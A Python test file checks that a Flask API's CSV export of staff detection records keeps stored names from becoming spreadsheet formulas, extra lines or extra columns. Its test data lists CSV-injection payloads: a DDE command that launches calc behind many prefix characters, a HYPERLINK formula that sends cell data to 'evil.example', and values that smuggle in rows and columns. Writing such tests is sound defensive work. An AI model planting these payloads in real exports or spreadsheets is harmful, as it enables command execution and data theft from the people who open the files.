"""No name in an export becomes a formula, a line or a column of its own."""

import csv
import datetime
import io
import json
from typing import Any

from bson import ObjectId
from flask.testing import FlaskClient
from pymongo.database import Database

COMMAND = "cmd|' /C calc'!A0"
# As names may be stored by the API, by an import, and by whatever wrote the rows before it.
NAMES = [
    *(f"{begin}{COMMAND}" for begin in "=+-@\t\r\n \u00a0\u200b\ufeff\uff1d\uff0b\uff0d\uff20"),
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "a\r\n=1+1",
    'a",=1+1,"',
    'a"\r\n=1+1',
    ";=1+1",
    ",=1+1",
]
# What a spreadsheet evaluates, or drops before it looks.
RISKY = "=+-@\uff1d\uff0b\uff0d\uff20"


def test_a_name_is_one_text_of_a_spreadsheet(
    client: FlaskClient, database: Database[dict[str, Any]]
) -> None:
    for staff_id, name in enumerate(NAMES):
        row = {"staff_id": staff_id, "mac": "C2A628384B08", "rssi": -60, "timestamp": 1_700_000_000}
        names = {"_id": ObjectId(), "level": name, "location": name}
        now = {"received_at": datetime.datetime.now(datetime.UTC)}
        database["staff"].insert_one(row | names | now)
        check(client, staff_id, name)


def check(client: FlaskClient, staff_id: int, name: str) -> None:
    answer = client.get(f"/api/v1/staff/{staff_id}/detections?format=csv")
    assert answer.status_code == 200
    [head, cells] = csv.reader(io.StringIO(answer.text, newline=""), strict=True)
    assert len(cells) == len(head)
    shown = {cells[head.index("level")], cells[head.index("location")]}
    assert shown == {name} or shown == {f"'{name}"}
    for cell in shown:
        assert cell[0].isprintable()
        assert cell.strip()[0] not in RISKY
        assert cell[0] != " "
    geojson = client.get(f"/api/v1/staff/{staff_id}/detections?format=geojson")
    [feature] = json.loads(geojson.data)["features"]
    assert feature["properties"]["location"] == name
